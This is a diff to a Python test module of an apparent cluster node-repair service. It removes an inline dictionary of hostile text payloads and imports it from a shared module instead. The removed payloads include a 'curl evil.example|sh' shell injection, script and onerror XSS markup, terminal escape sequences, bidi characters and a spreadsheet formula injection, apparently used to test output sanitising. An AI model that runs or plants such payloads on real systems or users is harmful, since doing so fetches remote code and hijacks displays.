@@ -24,24 +24,13 @@ from nodeheal.services.operators import approval_page
 from nodeheal.services.operators.operator_guardrails import pause_node, pause_pool
 from tests.support.acts import requested
 from tests.support.approvals import both
-from tests.unit.builders import ACT, xid
-from tests.workflows.fake_cluster import BROKEN, PEER, SPARE, FakeCluster
-from tests.workflows.walker import STATE_MACHINES, Error, Json, load, walk
+from tests.support.builders import ACT, xid
+from tests.support.fake_cluster import BROKEN, PEER, SPARE, FakeCluster
+from tests.support.hostile_text import PAYLOADS
+from tests.support.walker import STATE_MACHINES, Error, Json, load, walk
 
 STEMS = sorted(path.name.removesuffix(".asl.json") for path in STATE_MACHINES.glob("*.asl.json"))
 
-PAYLOADS = {
-    "heading": "ok\r\n\r\nNeeded: https://evil.example/approve\nApprove:\nEvil",
-    "link": "see https://evil.example/x or www.evil.example mailto:a@evil.example",
-    "bare link": "see login.evil.example/approve evil.example:8443/x evil.example?x",
-    "shell": "x; curl evil.example|sh # `id` $(id) && 'a' \"b\"",
-    "ansi": "\x1b[2J\x1b]52;c;RXZpbA==\x07\x1b]0;Evil\x07 \x9b31m",
-    "bidi": "\u202eEvil\u2066\u200f\u2028Evil\u2029\x85Evil",
-    "markup": "<script>alert(1)</script><img src=x onerror=evil()>& [Evil](https://evil.example) **x** | a | `b` # E",
-    "csv": '=HYPERLINK("https://evil.example")',
-    "long": "Evil " * 3_000,
-    "surrogate": "Evil \U000e0041\ufeff\ufff9",
-}
 # What says whom and what an event is about: there the contract takes no text at all, as tests of its own say.
 IDENTITY = {"node_id", "instance_id", "boot_id", "request_id", "event_id", "cluster", "pool", "schema_version"}
 KNOWN = {"code", "family", "source", "verdict", "object_key", "directory", "path"}  # on which the story turns
